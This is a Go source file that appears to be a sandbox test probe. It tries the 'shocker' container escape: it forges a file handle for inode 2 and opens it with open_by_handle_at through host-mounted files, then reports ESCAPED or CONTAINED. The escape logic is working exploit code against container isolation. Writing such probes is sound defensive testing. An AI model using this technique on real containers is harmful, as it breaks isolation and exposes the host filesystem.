// Command openbyhandle is an escape probe run in a RUN step: the
// "shocker" escape. It takes a file handle of a file that lives on a host
// file system (the generated /etc/hosts, a bind mount, the root) and opens
// a forged handle for inode 2 (the root directory of ext2/3/4) through it
// with open_by_handle_at. Success means the host's file system root was
// opened: it prints ESCAPED and exits 1; CONTAINED else.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	paths := append([]string{"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/"}, os.Args[1:]...)
	escaped := false
	for _, p := range paths {
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, p, 0)
		if err != nil {
			fmt.Printf("%s: name_to_handle_at: %v\n", p, err)
			continue
		}
		mfd, err := unix.Open(p, unix.O_RDONLY, 0)
		if err != nil {
			fmt.Printf("%s: open: %v\n", p, err)
			continue
		}
		// The file's own handle, then inode 2 generation 0 (FILEID_INO32_GEN).
		for _, fh := range []unix.FileHandle{h, unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})} {
			fd, err := unix.OpenByHandleAt(mfd, fh, unix.O_RDONLY)
			if err != nil {
				fmt.Printf("%s: open_by_handle_at (type %d): %v\n", p, fh.Type(), err)
				continue
			}
			f := os.NewFile(uintptr(fd), "handle")
			names, _ := f.Readdirnames(20)
			f.Close()
			fmt.Printf("ESCAPED: %s: open_by_handle_at (type %d) opened a file; entries %v\n", p, fh.Type(), names)
			escaped = true
		}
		unix.Close(mfd)
	}
	if escaped {
		os.Exit(1)
	}
	fmt.Println("CONTAINED")
}
